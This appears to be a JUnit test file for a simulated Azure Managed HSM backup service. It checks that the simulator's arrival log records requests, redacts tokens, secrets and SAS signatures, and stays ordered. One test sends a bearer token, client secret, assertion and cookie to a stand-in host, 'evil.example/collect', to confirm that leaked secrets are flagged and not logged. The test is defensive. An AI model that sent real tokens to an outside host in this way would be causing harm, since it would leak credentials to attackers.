package dev.hsmbackup.simulator;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import java.util.stream.LongStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ArrivalLogTest {
    private Rig rig;

    @BeforeEach
    void start(@TempDir Path directory) {
        rig = new Rig(directory);
    }

    @AfterEach
    void stop() {
        rig.close();
    }

    @Test
    void shouldTellWhatArrivedAndWhatWasAnswered() throws IOException {
        String token = rig.hsmToken();
        rig.send(
                "POST",
                "https://" + TestFleet.HSM + "/backup?api-version=7.5",
                Rig.backupBody(),
                "Authorization",
                "Bearer " + token,
                "x-ms-client-request-id",
                "my-attempt");

        JsonNode line = rig.arrivals().getLast();

        assertThat(line.path("method").asText()).isEqualTo("POST");
        assertThat(line.path("host").asText()).isEqualTo(TestFleet.HSM);
        assertThat(line.path("path").asText()).isEqualTo("/backup");
        assertThat(line.path("query").asText()).isEqualTo("api-version=7.5");
        assertThat(line.path("clientRequestId").asText()).isEqualTo("my-attempt");
        assertThat(line.path("caller").asText()).isEqualTo(TestFleet.CLIENT);
        assertThat(line.path("jobId").asText()).matches("[0-9a-f]{32}");
        assertThat(line.path("answer").asText()).isEqualTo("202");
        assertThat(line.path("time").asText()).matches("\\d{4}-.*Z");
    }

    @Test
    void shouldLogLoginsWithoutTheirSecrets() throws IOException {
        rig.hsmToken();

        JsonNode login = rig.arrivals().getLast().path("login");

        assertThat(login.path("grantType").asText()).isEqualTo("client_credentials");
        assertThat(login.path("clientId").asText()).isEqualTo(TestFleet.CLIENT);
        assertThat(login.path("scope").asText()).isEqualTo("https://managedhsm.azure.net/.default");
        assertThat(login.path("result").asText()).isEqualTo("token");
    }

    @Test
    void shouldTellWhichSecretsAStrangerWasGiven() throws IOException {
        rig.control("PUT", "/strangers/evil.example", "");
        String token = rig.hsmToken();

        HttpResponse<String> polite = rig.send(
                "POST",
                "https://evil.example/collect?t=" + token,
                "client_secret=s&client_assertion=a",
                "Authorization",
                "Bearer x",
                "Cookie",
                "c=d");
        rig.send("GET", "https://evil.example/nothing", "");

        assertThat(polite.statusCode()).isEqualTo(200);
        assertThat(carried(rig.arrivals().get(rig.arrivals().size() - 2)))
                .containsExactly("assertion", "authorization", "cookie", "jwt", "secret");
        assertThat(carried(rig.arrivals().getLast())).isEmpty();
        assertThat(rig.arrivals().toString()).doesNotContain(token);
    }

    @Test
    void shouldHaveNoStrangerThatNobodyNamed() {
        assertThatThrownBy(() -> rig.send("GET", "https://evil.example/", "")).isInstanceOf(IOException.class);
    }

    @Test
    void shouldNameTheTokensThatItIssued() throws IOException {
        String one = rig.hsmToken();
        String two = rig.hsmToken();

        JsonNode issued = rig.control("GET", "/tokens", "").path("issued");

        assertThat(issued.valueStream().map(JsonNode::asText)).containsExactly(one, two);
    }

    private static List<String> carried(JsonNode arrival) {
        return arrival.path("carried").valueStream().map(JsonNode::asText).toList();
    }

    @Test
    void shouldNeverHoldATokenASecretOrASas() throws IOException {
        String token = rig.hsmToken();
        String assertion = "eyJhbGciOiJSUzI1NiJ9.canaryassertion.signature";
        rig.login(
                TestFleet.LOGIN,
                TestFleet.TENANT,
                Map.of(
                        "grant_type",
                        "client_credentials",
                        "client_id",
                        TestFleet.CLIENT,
                        "client_assertion",
                        assertion,
                        "scope",
                        "x"));
        rig.send(
                "POST",
                "https://" + TestFleet.HSM + "/backup?api-version=7.5&code=canaryquery&canarybare",
                "{\"storageResourceUri\":\"" + TestFleet.CONTAINER
                        + "\",\"token\":\"se=2099-01-01T00:00:00Z&sig=canarysas\"}",
                "Authorization",
                "Bearer " + token);
        rig.send("GET", TestFleet.CONTAINER + "/x?se=2099-01-01T00%3A00%3A00Z&sp=r&sig=canarysig", "");

        String log = Files.readString(rig.simulator.arrivals());

        assertThat(log)
                .doesNotContain(
                        token,
                        token.substring(0, 40),
                        assertion,
                        "canary",
                        TestFleet.SECRET,
                        "Bearer",
                        "Authorization");
        assertThat(log).contains("api-version=7.5&code=HIDDEN&HIDDEN", "sig=HIDDEN");
    }

    @Test
    void shouldBeOnDiskBeforeTheAnswer() throws IOException {
        for (int i = 1; i <= 20; i++) {
            rig.send("GET", "https://" + TestFleet.HSM + "/backup/" + i + "/pending", "");

            assertThat(Files.readAllLines(rig.simulator.arrivals())).hasSize(i);
        }
    }

    @Test
    void shouldNumberLinesInTheOrderOfTheFile() throws IOException {
        List<Thread> clients = IntStream.range(0, 8)
                .mapToObj(i -> Thread.ofVirtual().start(() -> {
                    try {
                        for (int j = 0; j < 5; j++) {
                            rig.send("GET", "https://" + TestFleet.HSM + "/backup/" + i + "/pending", "");
                        }
                    } catch (IOException e) {
                        throw new IllegalStateException(e);
                    }
                }))
                .toList();
        for (Thread client : clients) {
            join(client);
        }

        assertThat(rig.arrivals().stream().mapToLong(line -> line.path("n").asLong()))
                .containsExactly(LongStream.rangeClosed(1, 40).boxed().toArray(Long[]::new));
    }

    private static void join(Thread thread) {
        try {
            thread.join();
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }
}
